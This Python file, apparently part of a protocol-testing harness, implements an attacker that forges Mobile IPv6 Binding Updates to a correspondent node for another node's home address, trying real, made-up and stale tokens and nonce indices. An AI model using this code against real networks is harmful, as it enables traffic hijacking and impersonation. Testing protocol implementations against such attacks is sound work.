"""Attacks on route optimisation by who does not hear the address tests (RFC 6275 15.4)."""

from __future__ import annotations

import random
from ipaddress import IPv6Address

from scapy.layers.inet6 import MIP6MH_BA, IPv6, MIP6MH_CoT, MIP6MH_HoT
from scapy.layers.l2 import Ether
from scapy.packet import Raw

from agents.mip6.binding_keys import binding_key, nonce_indices, sealed
from agents.mip6.codec import (
    PROTOCOL,
    BindingUpdate,
    CareOfTestInit,
    HomeTestInit,
    Status,
    checksum,
    encode,
)
from agents.nodes.attacker.attack import Attack, Frames, goes_to
from agents.nodes.attacker.mobility import home_address_option
from agents.nodes.attacker.settings import Known

_STALE = 9
"""Nonces that a correspondent node has at once: an index as far back is of none."""

_MADE_UP = bytes(8)


class ForgedRoutes(Attack):
    """Binding Updates to the correspondent node for another's home address, to an own one.

    It has its own address tested in either way, and tries what it was given: as the home address's
    token too, with one that it makes up, with indices that are not known any more, and with none.
    """

    def __init__(self, known: Known, rng: random.Random) -> None:
        super().__init__(known, rng)
        self._heard: dict[type, tuple[bytes, int]] = {}
        self._sequence = 0

    @property
    def _own(self) -> IPv6Address:
        return IPv6Address(self.known.own.address)

    def attack(self, now: float) -> Frames:  # noqa: ARG002
        """Have the own address tested."""
        self.told = "no answer to its tests"
        for test in (HomeTestInit(self.rng.randbytes(8)), CareOfTestInit(self.rng.randbytes(8))):
            yield self._frame(encode(test), self._own)

    def heard(self, frame: Ether, now: float) -> Frames:  # noqa: ARG002
        """Keep the answers to the own tests; forge when both are there."""
        if not goes_to(frame, self.known.own.address):
            return ()
        if MIP6MH_BA in frame:
            status = frame[MIP6MH_BA].status
            self.told = f"Binding Acknowledgement with status {status}"
            if status < Status.UNSPECIFIED:
                self.won = "a binding for another's home address"
        for kind in (MIP6MH_HoT, MIP6MH_CoT):
            if kind in frame and kind not in self._heard:
                self._heard[kind] = bytes(frame[kind].token), frame[kind].index
                if len(self._heard) == 2:
                    self.told = "no answer to its Binding Updates"
                    return self._forged()
        return ()

    def _forged(self) -> Frames:
        (home, home_index), (care_of, care_of_index) = (
            self._heard[MIP6MH_HoT],
            self._heard[MIP6MH_CoT],
        )
        stale = (home_index - _STALE) % 65536
        yield self._frame(encode(self._update()), IPv6Address(self.known.home_address))
        for tokens, indices in (
            ((home, care_of), (home_index, care_of_index)),
            ((_MADE_UP, care_of), (home_index, care_of_index)),
            ((home, care_of), (stale, care_of_index)),
            ((home, care_of), (stale, stale)),
        ):
            update = self._update(indices)
            key = binding_key(*tokens)
            data = sealed(update, key, self._own, IPv6Address(self.known.correspondent))
            yield self._frame(data, IPv6Address(self.known.home_address))

    def _update(self, indices: tuple[int, int] | None = None) -> BindingUpdate:
        self._sequence += 3000
        options = (nonce_indices(*indices),) if indices else ()
        return BindingUpdate(
            self._sequence, 420, home_registration=False, care_of=self._own, options=options
        )

    def _frame(self, message: bytes, source: IPv6Address) -> bytes:
        """Return a Mobility Header from the own address; with whose it is, if another's."""
        correspondent = IPv6Address(self.known.correspondent)
        number = checksum(source, correspondent, message).to_bytes(2)
        message = message[:4] + number + message[6:]
        packet = IPv6(src=self.known.own.address, dst=str(correspondent), nh=PROTOCOL)
        if source != self._own:
            option = home_address_option(str(source))
            option.nh = PROTOCOL
            del packet.nh
            packet /= option
        whole = Ether(src=self.known.own.mac, dst=self.known.far.mac) / packet / Raw(message)
        return bytes(whole)
